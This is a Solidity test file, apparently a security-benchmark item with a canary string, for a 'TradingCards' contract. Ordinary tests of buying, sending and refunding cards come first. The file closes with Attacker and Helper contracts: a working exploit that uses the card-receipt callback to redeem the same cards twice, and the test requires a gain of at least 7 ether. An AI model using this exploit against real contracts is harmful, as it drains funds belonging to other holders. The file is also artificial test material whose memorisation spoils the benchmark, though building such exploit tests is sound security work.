// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./TradingCards.sol";

// assay-canary-4627969a-09e1-4b55-a37a-4e709530c4e0

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

// A place for cards, which takes one kind only.
contract Shelf is ICardReceiver {
    function onCardsReceived(address, uint256 card, uint256) external pure returns (bytes4) {
        return card == 0 ? this.onCardsReceived.selector : bytes4(0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant PRESS = address(0x4E5);

    TradingCards private cards;
    Shelf private shelf;
    Attacker private mallory;

    function setUp() public {
        cards = new TradingCards(PRESS);
        shelf = new Shelf();
        vm.startPrank(PRESS);
        cards.print(1 ether, 100);
        cards.print(10, 5);
        vm.stopPrank();
        vm.deal(ANA, 50 ether);
        vm.deal(BEN, 50 ether);
        vm.prank(ANA);
        cards.buy{value: 30 ether}(0, 30);
        mallory = new Attacker(cards);
        vm.deal(address(mallory), 10 ether);
    }

    function test_Regular() public {
        vm.prank(PRESS);
        require(cards.print(2 ether, 2) == 2 && cards.printAt(2).price == 2 ether, "printed");
        vm.startPrank(ANA);
        cards.buy{value: 4 ether}(2, 2);
        cards.send(BEN, 2, 2);
        cards.send(BEN, 0, 5);
        cards.send(address(shelf), 0, 10);
        vm.stopPrank();
        require(cards.heldBy(ANA, 0) == 15 && cards.heldBy(BEN, 0) == 5 && cards.heldBy(address(shelf), 0) == 10, "sent");
        vm.startPrank(BEN);
        cards.takeBack(2, 1);
        cards.takeBack(0, 5);
        vm.stopPrank();
        require(BEN.balance == 56.3 ether && cards.printAt(0).sold == 25 && cards.heldBy(BEN, 2) == 1, "taken back");
        vm.prank(ANA);
        cards.takeBack(0, 15);
        require(ANA.balance == 29.5 ether, "all of them");
        vm.prank(PRESS);
        cards.collect();
        require(PRESS.balance == 3.4 ether && cards.earned() == 0, "collected");
        require(address(cards).balance == 9 ether + 1.8 ether, "backed");
    }

    function expect(bytes memory reason) private {
        vm.expectRevert(reason);
    }

    function test_RefusesPublishers() public {
        expect(abi.encodeWithSelector(Albums.NoAccount.selector));
        new TradingCards(address(0));
        expect(abi.encodeWithSelector(TradingCards.NotPublisher.selector, address(this)));
        cards.print(10, 1);
        expect(abi.encodeWithSelector(TradingCards.NotPublisher.selector, address(this)));
        cards.collect();
        vm.startPrank(PRESS);
        expect(abi.encodeWithSelector(TradingCards.BadPrice.selector, 0));
        cards.print(0, 1);
        expect(abi.encodeWithSelector(TradingCards.BadPrice.selector, 11));
        cards.print(11, 1);
        vm.stopPrank();
    }

    function test_RefusesBuyers() public {
        vm.startPrank(BEN);
        expect(abi.encodeWithSelector(TradingCards.NoSuchCard.selector, 2));
        cards.buy{value: 1 ether}(2, 1);
        expect(abi.encodeWithSelector(TradingCards.SoldOut.selector, 0));
        cards.buy(0, 71);
        expect(abi.encodeWithSelector(TradingCards.WrongPayment.selector, 1 ether, 2 ether));
        cards.buy{value: 1 ether}(0, 2);
        expect(abi.encodeWithSelector(Albums.NotEnough.selector, 0, 1));
        cards.takeBack(0, 1);
        vm.stopPrank();
    }

    function test_RefusesSenders() public {
        vm.startPrank(ANA);
        expect(abi.encodeWithSelector(Albums.NoAccount.selector));
        cards.send(address(0), 0, 1);
        expect(abi.encodeWithSelector(Albums.SameAccount.selector, ANA));
        cards.send(ANA, 0, 1);
        expect(abi.encodeWithSelector(Albums.NotEnough.selector, 30, 31));
        cards.send(BEN, 0, 31);
        cards.buy{value: 20}(1, 2);
        expect(abi.encodeWithSelector(Albums.NotTaken.selector, address(shelf)));
        cards.send(address(shelf), 1, 1);
        vm.stopPrank();
    }

    // the proof itself takes no ether
    function test_RefusesPayment() public {
        vm.deal(address(this), 1 ether);
        cards.buy{value: 1 ether}(0, 1);
        expect(abi.encodeWithSelector(TradingCards.NotPaid.selector, address(this), 0.9 ether));
        cards.takeBack(0, 1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 17 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(cards);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Helper is ICardReceiver {
    TradingCards private immutable cards;
    Attacker private immutable friend;

    constructor(TradingCards c, Attacker f) {
        cards = c;
        friend = f;
    }

    function onCardsReceived(address, uint256, uint256) external returns (bytes4) {
        friend.sell();
        return this.onCardsReceived.selector;
    }

    function sell() external {
        cards.takeBack(0, cards.heldBy(address(this), 0));
        (bool sent,) = address(friend).call{value: address(this).balance}("");
        require(sent, "not sent");
    }

    receive() external payable {}
}

contract Attacker {
    TradingCards private cards;
    Helper private helper;

    constructor(TradingCards c) {
        cards = c;
        helper = new Helper(c, this);
    }

    function run() external {
        cards.buy{value: 10 ether}(0, 10);
        cards.send(address(helper), 0, 10);
        helper.sell();
    }

    function sell() external {
        cards.takeBack(0, cards.heldBy(address(this), 0));
    }

    receive() external payable {}
}
